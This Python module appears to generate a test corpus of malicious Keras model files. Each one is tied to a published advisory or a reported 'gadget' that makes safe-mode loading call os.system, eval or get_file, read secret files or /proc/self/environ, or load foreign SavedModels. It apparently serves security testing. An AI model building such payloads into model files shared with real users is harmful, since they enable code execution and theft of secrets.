"""`.keras` files that ask for functions, classes and files that are there already."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

from hostile.corpus.artefact import (
    KEPT_OUT,
    Artefact,
    Harm,
    Scene,
)
from hostile.corpus.keras_code import of
from hostile.corpus.keras_files import INPUT, archive, function, layer
from support.archives import dense, functional

if TYPE_CHECKING:
    from pathlib import Path


def names(name: str, source: str, module: str, symbol: str, **more: Any) -> tuple[Artefact, ...]:
    """Any object of any module: where a layer stands, and where a function is expected."""
    as_class = dense(
        module=module, class_name=symbol, config={"name": "gadget"}, registered_name=symbol
    )
    as_function = layer("Dense", units=1, kernel_initializer=function(module, symbol))
    called = layer(
        "Lambda", function=function(module, symbol), arguments={"origin": "http://127.0.0.1:9"}
    )
    return (
        of(f"{name}-as-a-class", source, lambda _: [as_class], symbol, **more),
        of(f"{name}-as-a-function", source, lambda _: [as_function], symbol, **more),
        of(f"{name}-called-by-a-lambda-layer", source, lambda _: [called], "Lambda", **more),
    )


# Files and addresses where words are expected.


def words_from(name: str, source: str, layer_: str, place: str) -> Artefact:
    """A lookup that reads its words from a file or an address."""

    def make(scene: Scene) -> list[dict[str, Any]]:
        where = place.format(secrets=scene.secrets, port=scene.port, name=name)
        more: dict[str, Any] = {"mask_token": None} if layer_ != "TextVectorization" else {}
        lookup = layer(layer_, vocabulary=where, **more)
        return [layer("Discretization", bin_boundaries=[0.5]), lookup]

    harm = Harm.RUNS if layer_ == "IntegerLookup" and "{port}" not in place else None
    return of(name, source, make, "vocabulary", harm=harm)


WORDS = (
    words_from("CVE-2025-12058", "CVE-2025-12058", "StringLookup", "{secrets}/targets.frame"),
    words_from(
        "GHSA-mq84-hjqx-cwf2", "GHSA-mq84-hjqx-cwf2", "IntegerLookup", "{secrets}/targets.frame"
    ),
    words_from(
        "GHSA-qg93-c7p6-gg7f",
        "GHSA-qg93-c7p6-gg7f",
        "StringLookup",
        "http://127.0.0.1:{port}/{name}",
    ),
    words_from(
        "vocabulary-of-a-text-layer",
        "CVE-2025-12058",
        "TextVectorization",
        "{secrets}/targets.frame",
    ),
    words_from(
        "vocabulary-in-the-process-file-system",
        "CVE-2025-12058",
        "StringLookup",
        "/proc/self/environ",
    ),
)


def saved_model_layer(scene: Scene) -> list[dict[str, Any]]:
    """TFSMLayer: a SavedModel that lies somewhere else."""
    place = str((scene.written or scene.secrets) / "writes-a-file")
    return [layer("TFSMLayer", filepath=place, call_endpoint="serving_default")]


def by_confusion(scene: Scene) -> list[dict[str, Any]]:
    """The same class asked for as a function, past the guard in its from_config."""
    place = str((scene.written or scene.secrets) / "writes-a-file")
    asked = function("keras.layers", "TFSMLayer")
    return [
        layer("Activation", activation=asked),
        dense(config={"name": place, "units": 1, "bias_initializer": asked}),
    ]


def gadget_node(
    name: str, symbol: str, module: str = "keras.src.ops.core", words: str = ""
) -> Artefact:
    """An operation that takes functions, in a functional model, connected to nothing."""

    def build(scene: Scene) -> Path:
        node = {
            "args": [0, [function("keras.config", "set_dtype_policy")], "mixed_float16"],
            "kwargs": {},
        }
        first = {**INPUT, "name": "x", "inbound_nodes": []}
        op = dense(module=module, class_name=symbol, config={"name": "op"}, registered_name=symbol)
        unconnected = {**op, "name": "op", "inbound_nodes": [node]}
        described = functional(first, unconnected, output="x")
        return archive(scene, more={"config.json": json.dumps(described).encode()})

    return Artefact(name, "reported, open in Keras 3.15", build, words=words or symbol)


PICKLED = {"class_name": "__bytes__", "config": {"value": "gASV"}}
OPEN = "open in Keras 3.15 under safe mode"
ADVISORIES = (
    *names("CVE-2025-1550", "CVE-2025-1550, GHSA-48g7-3x6r-xfhp", "os", "system"),
    *names("CVE-2025-1550-eval", "CVE-2025-1550", "builtins", "eval"),
    *names(
        "CVE-2025-1550-private-module", "CVE-2025-1550", "keras.src.utils.file_utils", "get_file"
    ),
    *names("CVE-2025-8747", "CVE-2025-8747, GHSA-c9rc-mg46-23w3", "keras.utils", "get_file"),
    *names("CVE-2025-9906", "CVE-2025-9906", "keras.config", "enable_unsafe_deserialization"),
    *names("GHSA-36fq-jgmw-4r9c", "GHSA-36fq-jgmw-4r9c", "keras.models", "load_model"),
    of(
        "CVE-2025-49655",
        "CVE-2025-49655",
        lambda _: [
            dense(
                class_name="TorchModuleWrapper",
                config={
                    "name": "t",
                    "module": {"class_name": "__bytes__", "config": {"value": "gASV"}},
                },
            )
        ],
        "TorchModuleWrapper",
    ),
    of("wrapper-of-jax", OPEN, lambda _: [layer("JaxLayer")], "JaxLayer"),
    of("wrapper-of-flax", OPEN, lambda _: [layer("FlaxLayer")], "FlaxLayer"),
    of(
        "CVE-2025-12060",
        "CVE-2025-12060, CVE-2024-55459",
        lambda s: [
            layer(
                "Lambda",
                function=function("keras.utils", "get_file"),
                arguments={"origin": f"http://127.0.0.1:{s.port}/a.tar", "extract": True},
            )
        ],
        "Lambda",
    ),
    of(
        "CVE-2026-1462",
        "CVE-2026-1462, GHSA-4f3f-g24h-fr8m",
        saved_model_layer,
        "TFSMLayer",
        behind=KEPT_OUT,
        harm=Harm.RUNS,
    ),
    of(
        "class-taken-for-a-function",
        "reported, past the guard of CVE-2026-1462",
        by_confusion,
        "TFSMLayer",
    ),
    *names("gadget-load-data", OPEN, "keras.datasets.mnist", "load_data"),
    *names("gadget-dtype-policy", OPEN, "keras.config", "set_dtype_policy"),
    *names("gadget-backend", OPEN, "keras.config", "set_backend"),
    *names("gadget-random-seed", OPEN, "keras.utils", "set_random_seed"),
    *names("gadget-plot-model", OPEN, "keras.utils", "plot_model"),
    *names("gadget-file-editor", OPEN, "keras.saving", "KerasFileEditor"),
    *names("gadget-export", OPEN, "keras.export", "ExportArchive"),
    *names("gadget-csv-logger", OPEN, "keras.callbacks", "CSVLogger"),
    *names("gadget-backup", OPEN, "keras.callbacks", "BackupAndRestore"),
    *(
        gadget_node(f"unconnected-{symbol.lower()}", symbol)
        for symbol in ("Switch", "Map", "Scan", "WhileLoop", "Cond", "VectorizedMap")
    ),
)


ARTEFACTS = WORDS + ADVISORIES
